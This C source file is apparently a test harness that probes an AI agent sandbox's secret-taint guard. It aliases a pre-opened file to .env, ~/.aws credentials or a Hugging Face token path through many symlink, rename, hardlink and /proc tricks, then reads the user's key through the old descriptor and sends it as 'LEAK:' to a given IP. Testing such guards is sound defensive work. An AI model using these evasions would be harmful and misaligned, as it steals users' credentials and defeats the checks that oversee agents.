// naming IP HOW: sends PRE; creates draft (read-write, the descriptor kept), gives it
// (or a link to it) the secret name .env by HOW, makes `named`, waits for `go` (the
// user wrote a key into .env), reads through the old descriptor, and sends (a fresh
// connect: refused once tainted). Prints "naming HOW: r=.. errno=..".
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <linux/fs.h>
#include "../../isolated-files-r4/send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1],*how=argv[2];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int fd=open("draft",O_RDWR|O_CREAT,0600); if(fd<0){perror("draft");return 1;}
  long r=-1; char p[256]; int ws=open(".",O_RDONLY|O_DIRECTORY);
  if(!strcmp(how,"symlinkat-dirfd")) r=symlinkat("draft",ws,".env");
  else if(!strcmp(how,"symlinkat-procfd")){ snprintf(p,sizeof p,"/proc/self/fd/%d/.env",ws); r=symlink("draft",p);}
  else if(!strcmp(how,"symlink-then-rename")){ symlink("draft","x"); r=rename("x",".env");}
  else if(!strcmp(how,"symlink-then-renameat2-dirfd")){ symlink("draft","x"); r=syscall(SYS_renameat2,ws,"x",ws,".env",0);}
  else if(!strcmp(how,"chain")){ symlink("draft","a"); symlink("a","b"); r=rename("b",".env");}
  else if(!strcmp(how,"relative-subdir")){ mkdir("sub",0700); r=symlink("../draft","sub/.env");}
  else if(!strcmp(how,"hardlink-of-symlink")){ symlink("draft","x"); r=linkat(AT_FDCWD,"x",AT_FDCWD,".env",0);}
  else if(!strcmp(how,"exchange-symlink")){ symlink("draft","x"); int e=open(".env",O_WRONLY|O_CREAT,0600); if(e>=0) close(e); r=syscall(SYS_renameat2,AT_FDCWD,"x",AT_FDCWD,".env",RENAME_EXCHANGE);}
  else if(!strcmp(how,"link-procfd-follow")){ snprintf(p,sizeof p,"/proc/self/fd/%d",fd); r=linkat(AT_FDCWD,p,AT_FDCWD,".env",AT_SYMLINK_FOLLOW);}
  else if(!strcmp(how,"tmpfile-link")){ close(fd); fd=open(".",O_TMPFILE|O_RDWR,0600); snprintf(p,sizeof p,"/proc/self/fd/%d",fd); r=linkat(AT_FDCWD,p,AT_FDCWD,".env",AT_SYMLINK_FOLLOW);}
  else if(!strcmp(how,"rename-dir-of-link")){ mkdir("d",0700); symlink("../draft","d/.env"); mkdir("e",0700); r=rename("d","e/d");}
  else if(!strcmp(how,"symlink-dotdot-name")){ mkdir("sub",0700); r=symlink("draft","sub/../.env");}
  else if(!strcmp(how,"symlink-abs-procroot")){ char c[200]; getcwd(c,sizeof c); snprintf(p,sizeof p,"/proc/self/root%s/.env",c); r=symlink("draft",p);}
  else if(!strcmp(how,"symlink-cwd-procfd")){ snprintf(p,sizeof p,"/proc/self/fd/%d",ws); chdir(p); r=symlink("draft",".env");}
  else if(!strcmp(how,"dir-symlink-then-file")){ mkdir("real",0700); close(fd); fd=open("real/.env",O_RDWR|O_CREAT,0600); r=fd<0?-1:0; }
  else if(!strcmp(how,"hf-dir-rename")){ // a directory holding token, renamed to the secret directory
    char a[300],b[300],t[300]; const char*h=getenv("HOME"); snprintf(a,sizeof a,"%s/.cache",h); mkdir(a,0700);
    snprintf(a,sizeof a,"%s/.cache/stage",h); mkdir(a,0700); snprintf(t,sizeof t,"%s/token",a);
    close(fd); fd=open(t,O_RDWR|O_CREAT,0600); printf("open %s: %d\n",t,fd);
    snprintf(b,sizeof b,"%s/.cache/huggingface",h); r=rename(a,b);}
  else if(!strcmp(how,"hf-dir-symlink")){ // the secret directory made a link to a directory holding token
    char a[300],b[300]; const char*h=getenv("HOME"); snprintf(a,sizeof a,"%s/.cache",h); mkdir(a,0700);
    mkdir("hf",0700); close(fd); fd=open("hf/token",O_RDWR|O_CREAT,0600); printf("open hf/token: %d\n",fd);
    getcwd(a,sizeof a); strcat(a,"/hf"); snprintf(b,sizeof b,"%s/.cache/huggingface",h); r=symlink(a,b);}
  // The workspace has .env -> config/dev.env (dangling) from before the session.
  else if(!strcmp(how,"dangling-creat")){ close(fd); fd=open("config/dev.env",O_RDWR|O_CREAT,0600); r=fd<0?-1:0;}
  else if(!strcmp(how,"dangling-rename")){ close(fd); fd=open("config/tmp",O_RDWR|O_CREAT,0600); r=rename("config/tmp","config/dev.env");}
  else if(!strcmp(how,"dangling-link")){ r=link("draft","config/dev.env");}
  else if(!strcmp(how,"dangling-symlink")){ r=symlink("../draft","config/dev.env");}
  else if(!strcmp(how,"dangling-mkdir-symlink")){ rmdir("config"); r=symlink(".","config");}
  // existing-*: .env -> config/dev.env, which exists (an old key) from before the session.
  else if(!strcmp(how,"existing-rename-over")){ r=rename("draft","config/dev.env");}
  else if(!strcmp(how,"existing-unlink-link")){ r=unlink("config/dev.env"); printf("unlink: %ld\n",r); r=link("draft","config/dev.env");}
  // outside-*: the agent only holds config/x; a process outside makes the links (probe.sh).
  else if(!strcmp(how,"outside-wronly-reopen")||!strcmp(how,"outside-path-reopen")){ close(fd);
    fd=open("draft",how[8]=='w'?O_WRONLY:O_PATH); r=fd<0?-1:0;}
  else if(!strncmp(how,"outside-",8)){ close(fd); mkdir("config",0700); fd=open("config/x",O_RDWR|O_CREAT,0600); r=fd<0?-1:0;}
  // dotfiles-*: the workspace is a dotfiles repo: ~/.aws -> <ws>/aws from before the session.
  else if(!strcmp(how,"dotfiles-rename-over")){ r=rename("draft","aws/credentials");}
  else if(!strcmp(how,"dotfiles-read")){ close(fd); fd=open("aws/credentials",O_RDONLY); r=fd<0?-1:0;} // control: an open by the alias taints
  else if(!strcmp(how,"dotfiles-link")){ r=link("draft","aws/config");}
  else if(!strcmp(how,"none")) r=0;
  else { printf("unknown\n"); return 1; }
  printf("naming %s: r=%ld errno=%s\n",how,r,r<0?strerror(errno):"-");
  close(open("named",O_WRONLY|O_CREAT,0600));
  for(int i=0;i<3000&&access("go",F_OK);i++) usleep(10000);
  if(strstr(how,"-reopen")){ snprintf(p,sizeof p,"/proc/self/fd/%d",fd); int g=open(p,O_RDONLY); printf("reopen %s: %d %s\n",p,g,g<0?strerror(errno):"-"); fd=g;}
  char key[128]={0}; ssize_t k=pread(fd,key,sizeof key-1,0);
  printf("read through the old descriptor: %zd: %.40s\n",k,key);
  char m[200]; int l=snprintf(m,sizeof m,"LEAK:%s",key);
  printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
